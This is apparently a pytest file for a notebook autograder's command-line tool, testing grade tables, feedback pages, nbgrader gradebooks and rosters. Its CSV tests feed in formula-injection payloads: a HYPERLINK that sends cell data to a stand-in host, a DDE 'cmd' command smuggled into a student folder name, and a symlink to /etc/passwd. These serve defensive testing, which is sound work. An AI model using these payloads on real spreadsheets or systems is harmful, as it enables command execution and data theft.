"""The instructor's and the student's commands, run as they would run them."""

import contextlib
import csv
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from autograder.cases import exercise
from autograder.notebooks import assignments, course_order, source_notebooks
from autograder.references import build_references, load_references
from helpers.diagnosis import matches
from tests.autograder.conftest import ASSIGNMENT, CORPUS_DIR, solved, write_submission


def run_cli(*args, cwd=None):
    return subprocess.run([sys.executable, "-m", "autograder", *args], capture_output=True,
                          text=True, cwd=cwd)


@pytest.fixture(scope="module")
def graded(tmp_path_factory, notebook_names):
    root = tmp_path_factory.mktemp("cli")
    submissions = root / "submitted"
    write_submission(submissions / "ada", {n: solved(n) for n in notebook_names})
    # nbgrader's layout: submitted/<student>/<assignment>/<notebook>.ipynb
    write_submission(submissions / "bob" / ASSIGNMENT, {n: solved(n) for n in notebook_names})
    (submissions / "bob" / ASSIGNMENT / f"{notebook_names[0]}.ipynb").write_text("{not json")
    (submissions / "cyd").mkdir()
    wrong = (CORPUS_DIR / "propagate_forgets_1_over_m.py").read_text()
    write_submission(submissions / "dee", {n: solved(n, {"propagate_answer": wrong})
                                           for n in notebook_names})
    db = root / "gradebook.db"
    process = run_cli("grade", str(submissions), "--assignment", ASSIGNMENT,
                      "--json", str(root / "results.json"), "--csv", str(root / "grades.csv"),
                      "--feedback-dir", str(root / "feedback"), "--gradebook", f"sqlite:///{db}",
                      "--cache-dir", str(root / "cache"), "--report", str(root / "report.html"),
                      "--workers", "2")
    return root, process, db


def test_grade_prints_a_table_and_flags_what_needs_a_look(graded):
    root, process, _ = graded
    assert process.returncode == 0, process.stderr  # notes are no failure
    table, after = process.stdout.split("\n\n", 1)
    lines = table.splitlines()
    assert lines[0].split()[:4] == ["student", "score", "max", "%"]
    rows = {line.split()[0]: line for line in lines[1:]}
    assert set(rows) == {"ada", "bob", "cyd", "dee"} and "no submission (1): cyd" in after
    assert "100.0" in rows["ada"]
    assert "not valid notebook JSON" in rows["bob"]
    # nbgrader's layout: cyd's folder holds no week's folder, so cyd handed nothing in
    assert rows["cyd"].split()[1:] == ["-", "-", "-", "no", "submission"]
    assert "graded with a note" in process.stderr


def test_grade_writes_json_with_every_test(graded, notebook_names):
    root, _, _ = graded
    data = json.loads((root / "results.json").read_text())
    assert data["assignment"] == ASSIGNMENT
    by_id = {s["student_id"]: s for s in data["submissions"]}
    ada, bob = by_id["ada"], by_id["bob"]
    assert ada["score"] == ada["max_score"] > 0 and ada["error"] is None
    assert set(ada["tests"][0]) == {"notebook", "test_id", "function", "points",
                                    "max_points", "feedback", "mistakes", "answer"}
    assert ada["flags"] == [] and bob["flags"] == ["unreadable notebook"]
    assert {t["function"]: t["mistakes"] for t in by_id["dee"]["tests"]
            if t["mistakes"]} == {"propagate": ["forgot 1/m"]}
    assert {t["notebook"] for t in ada["tests"]} == set(notebook_names)
    assert "propagate" in {t["function"] for t in ada["tests"]}
    # bob's broken notebook costs its own points only
    broken = [t for t in bob["tests"] if t["notebook"] == notebook_names[0]]
    fine = [t for t in bob["tests"] if t["notebook"] != notebook_names[0]]
    assert all(t["points"] == 0 for t in broken)
    assert all(t["points"] == t["max_points"] for t in fine)
    assert bob["error"] and 0 < bob["score"] < bob["max_score"]


def test_grade_writes_a_csv_grade_sheet(graded):
    root, _, _ = graded
    rows = list(csv.DictReader((root / "grades.csv").open()))
    assert [r["student_id"] for r in rows] == ["ada", "bob", "cyd", "dee"]
    assert rows[0]["percent"] == "100.0" and rows[0]["status"] == "graded"
    assert rows[1]["status"] == "graded with a note" and "not valid notebook JSON" in \
        rows[1]["error"]
    assert (rows[2]["score"], rows[2]["status"]) == ("", "no submission")


def test_feedback_pages_explain_without_showing_hidden_inputs(graded):
    root, _, _ = graded
    page = (root / "feedback" / "bob" / ASSIGNMENT / "feedback.html").read_text()
    assert "not valid notebook JSON" in page
    page = (root / "feedback" / "dee" / ASSIGNMENT / "feedback.html").read_text()
    assert "forget to divide by m" in page
    assert_no_hidden_values(page)


def test_the_class_report_names_the_mistakes_and_what_needs_a_look(graded):
    root, process, _ = graded
    page = (root / "report.html").read_text()
    assert "1 of 3 forgot to divide by m in propagate" in page  # cyd handed nothing in
    assert "a notebook could not be read" in page
    assert "1</strong> with no submission" in page and "out of the scores and mistakes " \
        "above: cyd." in page
    assert "wrote the class report" in process.stderr
    assert_no_hidden_values(page)


def assert_no_hidden_values(page):
    propagate = exercise(ASSIGNMENT, "logistic_regression", "propagate")
    expected = load_references(ASSIGNMENT)["logistic_regression"]["propagate"]
    for case in propagate.cases:
        w, b, X, Y = case.inputs().args
        grads, cost = expected[case.case_id]
        for secret in [*w.ravel()[:3], b, *X.ravel()[:3], cost, *grads["dw"].ravel()[:3]]:
            for digits in (3, 4, 6):
                assert f"{secret:.{digits}f}" not in page
    assert "score_exercise" not in page and "BEGIN HIDDEN" not in page


def test_a_feedback_page_has_notebooks_in_course_order_and_a_subtotal_per_exercise(graded):
    root, _, _ = graded
    page = (root / "feedback" / "dee" / ASSIGNMENT / "feedback.html").read_text()
    headings = re.findall(r'<h2 id="\w+-heading">(\w+)\.ipynb</h2>', page)
    assert headings == course_order(ASSIGNMENT) == ["numpy_basics", "logistic_regression"]
    propagate = exercise(ASSIGNMENT, "logistic_regression", "propagate")
    subtotal = re.search(r'<code>propagate</code>\s*<span class="points">([\d.]+) / ([\d.]+) '
                         r'points</span>', page)
    assert subtotal and subtotal.group(1) == "0.00"
    points = {s.points[propagate.grade_id] for s in source_notebooks(ASSIGNMENT)
              if s.name == "logistic_regression"}
    assert subtotal.group(2) == f"{points.pop():.2f}"
    assert re.search(r"Score: <strong>\d+\.\d\d</strong> out of \d+\.\d\d", page)


def test_a_graded_feedback_page_opens_with_what_to_fix(graded):
    root, _, _ = graded
    page = (root / "feedback" / "dee" / ASSIGNMENT / "feedback.html").read_text()
    summary = page.split('<h2 id="summary">', 1)[1].split("</section>", 1)[0]
    assert re.findall(r'<a href="#[\w-]+"><code>(\w+)</code></a>', summary) == ["propagate"]
    assert re.search(r"propagate</code></a> <span class=\"where\">[^<]*</span>: [^<]*"
                     r"forget to divide by m\?</li>", summary)
    assert 'class="passed" open' not in page and 'class="failed">' not in page
    assert re.findall(r'<details id="[\w-]+" class="failed" open>\s*<summary>'
                      r'<span class="status">[^<]*</span> <code>(\w+)</code>', page) == \
        ["propagate"]
    assert not (root / "feedback" / "cyd").exists()  # no submission, no page
    full = (root / "feedback" / "ada" / ASSIGNMENT / "feedback.html").read_text()
    assert "<strong>Full marks:</strong>" in full and "To fix" not in full


def test_grades_land_in_nbgraders_gradebook(graded):
    from nbgrader.api import Gradebook

    _, _, db = graded
    with Gradebook(f"sqlite:///{db}") as gb:
        ada = gb.find_submission(ASSIGNMENT, "ada")
        bob = gb.find_submission(ASSIGNMENT, "bob")
        assert ada.score == pytest.approx(ada.max_score) and ada.max_score > 0
        assert 0 < bob.score < bob.max_score
        assert "cyd" not in {s.id for s in gb.students}  # no submission is no 0 score


def test_grade_reports_a_missing_folder_and_an_unknown_assignment(tmp_path):
    process = run_cli("grade", str(tmp_path / "nowhere"), "--assignment", ASSIGNMENT,
                      "--gradebook", "none")
    assert process.returncode == 2 and "is not a folder" in process.stderr
    process = run_cli("grade", str(tmp_path), "--assignment", "week9_nothing",
                      "--gradebook", "none")
    assert process.returncode == 2 and "no assignment called" in process.stderr


def test_check_prints_one_line_per_exercise_with_its_status_first_hint_and_points(tmp_path):
    from nbformat import write

    stub = "def L1(yhat, y):\n    # YOUR CODE HERE\n    raise NotImplementedError()"
    nb = solved("numpy_basics", {"sigmoid_answer": "def sigmoid(x):\n    return x",
                                 "L1_answer": stub})
    path = tmp_path / "numpy_basics.ipynb"
    write(nb, path)
    process = run_cli("check", str(path))
    assert process.returncode == 1
    lines = {line.split()[1]: line for line in process.stdout.splitlines()[1:-1]}
    assert lines["sigmoid"].split()[0] == "✗" and "1 pt  failed: sigmoid(x) has wrong values" \
        in lines["sigmoid"]
    assert lines["L1"].split()[0] == "·" and "not attempted" in lines["L1"]
    assert lines["logistic_gradients_loop"].startswith("  ✓") and "3 pt" in \
        lines["logistic_gradients_loop"]
    assert process.stdout.startswith("numpy_basics.ipynb: 9 of 11 visible checks pass, worth "
                                     "12 of the 14 points at stake")
    assert "\033[" not in process.stdout  # no colours when not on a terminal


@pytest.mark.parametrize("assignment", assignments())
def test_stored_references_are_current(assignment):
    # computed floats differ in the last bits between CPUs and BLAS kernels: compare
    # within a hundredth of each exercise's grading tolerance, far below any change a
    # different solution would make (test_hidden_cases checks that every case is well
    # conditioned enough for that)
    stored = load_references(assignment)
    fresh = build_references(assignment)
    assert fresh.keys() == stored.keys()
    for notebook in fresh:
        assert fresh[notebook].keys() == stored[notebook].keys()
        for grade_id, cases in fresh[notebook].items():
            assert cases.keys() == stored[notebook][grade_id].keys()
            graded = exercise(assignment, notebook, grade_id)
            for case_id, value in cases.items():
                assert matches(value, stored[notebook][grade_id][case_id],
                               rtol=graded.rtol / 100, atol=graded.atol / 100), \
                    (f"{notebook}/{grade_id}/{case_id} differs from the stored reference: "
                     f"run `.venv/bin/python -m autograder references {assignment}`")


@pytest.mark.parametrize("layout", ["wide", "canvas", "moodle"])
def test_no_cell_of_an_lms_grade_sheet_starts_a_formula(layout):
    from autograder.grade import SubmissionResult
    from autograder.gradesheet import grade_sheet
    from autograder.spreadsheet import FORMULA_STARTS

    formulas = [start + 'HYPERLINK("x")' for start in FORMULA_STARTS]
    results = [SubmissionResult(formula, 3.0, 6.0, f"{formula}.ipynb is a link.")
               for formula in formulas]
    text = grade_sheet(ASSIGNMENT, results, [f"{formulas[0]}absent"], layout=layout)
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert sum(cell.startswith("'") for cell in cells) >= len(formulas) + 1
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


def test_no_csv_cell_starts_a_formula(tmp_path):
    from autograder.grade import SubmissionResult
    from autograder.gradesheet import grade_sheet
    from autograder.spreadsheet import FORMULA_STARTS

    formulas = [start + 'HYPERLINK("http://x.example/?"&A1,"open")' for start in FORMULA_STARTS]
    results = [SubmissionResult(formula, -1.5 if n == 0 else 3.0, 6.0,
                                f"{formula}.ipynb is a link in the zip, not a notebook file.")
               for n, formula in enumerate(formulas)]
    header, *rows = csv.reader(io.StringIO(grade_sheet(ASSIGNMENT, results)))
    assert header == ["student_id", "score", "max_score", "percent", "status", "submitted_at",
                      "late", "error"]
    for formula, (student, score, max_score, percent, *_, error) in zip(sorted(formulas), rows):
        assert student == "'" + formula and error.startswith("'" + formula)
        assert float(score) in (-1.5, 3.0) and max_score == "6.00" and percent in ("-25.0", "50.0")
    assert "-1.50" in [row[1] for row in rows]  # the grader's own negative number stays a number
    # from the command line: a student id (a folder's name) that is a formula
    submissions = tmp_path / "submitted"
    folder = submissions / "=SUM(1+1)*cmd|' -C calc'!A0"
    folder.mkdir(parents=True)
    (folder / "numpy_basics.ipynb").symlink_to("/etc/passwd")
    process = run_cli("grade", str(submissions), "--assignment", ASSIGNMENT, "--csv",
                      str(tmp_path / "grades.csv"), "--gradebook", "none", "--cache-dir",
                      str(tmp_path / "cache"), "--feedback-dir", str(tmp_path / "feedback"))
    assert process.returncode == 0, process.stderr  # graded: a link is the student's note
    (row,) = csv.DictReader((tmp_path / "grades.csv").open())
    assert row["student_id"] == "'=SUM(1+1)*cmd|' -C calc'!A0"
    cells = [cell for row in csv.reader((tmp_path / "grades.csv").open()) for cell in row]
    assert not any(cell.startswith(FORMULA_STARTS) for cell in cells)


def test_every_csv_the_grader_writes_goes_through_one_writer():
    import autograder

    package = Path(autograder.__file__).parent
    writers = {path.name for path in package.rglob("*.py")
               if re.search(r"csv\.(writer|DictWriter)\b", path.read_text())}
    assert writers == {"spreadsheet.py"}


def test_a_roster_is_a_csv_with_a_student_id_column_or_one_id_per_line(tmp_path):
    from autograder.roster import read_roster

    spreadsheet = tmp_path / "class.csv"
    spreadsheet.write_bytes("\ufeffName, Student_ID ,email\n# dropped: Bob,1003,b@x\n"
                            "Ada,1001,a@x\n\n\"Turing, Alan\", 1002 ,t@x\n,,\n".encode())
    assert read_roster(spreadsheet).ids == {"1001", "1002"}
    plain = tmp_path / "class.txt"
    plain.write_text("# week 1\n  ada  \n\nbob lee\n")
    assert read_roster(plain).ids == {"ada", "bob lee"} and "ada" in read_roster(plain)


@pytest.mark.parametrize("content, words", [
    (b"name,login\nAda,1001\n", r"no student_id column \(it has name, login\)"),
    (b"name,student_id\nAda,1001\nBob,\n", "has no student_id on line 3"),
    (b"# nobody yet\n\n", "holds no student id"),
    (b"\xff\xfe1\x00", "is not UTF-8 text"),
])
def test_a_roster_that_cannot_serve_is_refused_saying_the_format(tmp_path, content, words):
    from autograder.roster import RosterError, read_roster

    path = tmp_path / "roster.csv"
    path.write_bytes(content)
    with pytest.raises(RosterError, match=words + ".*student_id column .*text file with"):
        read_roster(path)
    process = run_cli("grade", str(tmp_path), "--assignment", ASSIGNMENT, "--roster",
                      str(path), "--gradebook", "none")
    assert process.returncode == 2 and "error: the roster" in process.stderr
    process = run_cli("grade", str(tmp_path), "--assignment", ASSIGNMENT, "--roster",
                      str(tmp_path / "nowhere.csv"), "--gradebook", "none")
    assert process.returncode == 2 and "cannot be read (No such file" in process.stderr


def test_nbgraders_student_table_is_a_roster_with_names_and_emails(tmp_path, monkeypatch):
    from nbgrader.api import Gradebook

    from autograder.roster import RosterError, read_roster

    exported = tmp_path / "students.csv"  # as `nbgrader db student import` reads it
    exported.write_text("id,first_name,last_name,email\nada,Ada,Lovelace,ada@x.org\nbob,,,\n")
    roster = read_roster(exported)
    assert roster.ids == {"ada", "bob"}
    assert roster.people["ada"] == {"name": "Ada Lovelace", "email": "ada@x.org"}
    db = tmp_path / "gradebook.db"
    # nbgrader runs the `alembic` of its environment to make a gradebook
    monkeypatch.setenv("PATH", f"{Path(sys.executable).parent}:{os.environ['PATH']}")
    with Gradebook(f"sqlite:///{db}") as gb:
        gb.add_student("cyd", first_name="Cyd", email="c@x.org")
        gb.add_student("dee")
    roster = read_roster(db)
    assert roster.ids == {"cyd", "dee"} and roster.people["cyd"]["email"] == "c@x.org"
    other = tmp_path / "other.db"
    with contextlib.closing(sqlite3.connect(other)) as connection:
        connection.execute("CREATE TABLE grades (x)")
    with pytest.raises(RosterError, match="a SQLite file but not a gradebook of nbgrader's"):
        read_roster(other)


def test_in_nbgraders_layout_a_student_without_the_assignments_folder_handed_nothing_in(
        tmp_path):
    from autograder.grade import grade
    from autograder.intake import student_folders
    from autograder.sandbox import Unsandboxed

    submitted = tmp_path / "submitted"
    (submitted / "ada" / ASSIGNMENT).mkdir(parents=True)
    (submitted / "bob" / "week0_other").mkdir(parents=True)  # another week only
    (submitted / "cyd").mkdir()
    students, _ = student_folders(submitted, ASSIGNMENT)
    assert {s.student_id: s.handed_in for s in students} == {"ada": True, "bob": False,
                                                             "cyd": False}
    # outside nbgrader's layout an empty folder is still a (graded, empty) submission
    plain = tmp_path / "plain"
    (plain / "cyd").mkdir(parents=True)
    assert [s.handed_in for s in student_folders(plain, ASSIGNMENT)[0]] == [True]
    results = grade(submitted, assignment=ASSIGNMENT, students=students,
                    sandbox=Unsandboxed())  # nothing of a student's runs: ada's is empty
    assert [r.student_id for r in results] == ["ada"]


def test_the_exit_status_fails_only_when_the_grader_could_not_grade_a_submission(
        tmp_path, monkeypatch, capsys):
    import autograder.grade as grading
    from autograder.__main__ import main

    submitted = tmp_path / "submitted"
    (submitted / "ada").mkdir(parents=True)  # graded, with a note: an empty folder
    (submitted / "bob").mkdir()
    roster = tmp_path / "class.txt"
    roster.write_text("ada\nbob\ncyd\n")  # cyd hands nothing in
    out = tmp_path / "out"
    command = ["grade", str(submitted), "--assignment", ASSIGNMENT, "--gradebook", "none",
               "--roster", str(roster), "--json", str(out / "results.json"),
               "--cache-dir", str(out / "cache"), "--feedback-dir", str(out / "feedback")]
    assert main(command) == 0  # notes and a missing student are no failure
    data = json.loads((out / "results.json").read_text())
    assert data["no_submission"] == ["cyd"]
    assert [s["status"] for s in data["submissions"]] == ["graded with a note"] * 2
    real = grading.grade_submission

    def broken_for_bob(student, *args, **kwargs):
        if student == "bob":
            raise MemoryError("the grader ran out of memory")
        return real(student, *args, **kwargs)

    monkeypatch.setattr(grading, "grade_submission", broken_for_bob)
    capsys.readouterr()
    assert main([*command, "--force"]) == 1
    err = capsys.readouterr().err
    assert "the grader could not grade 1 submission(s) (bob)" in err
    data = json.loads((out / "results.json").read_text())
    assert [s["status"] for s in data["submissions"]] == ["graded with a note", "not graded"]
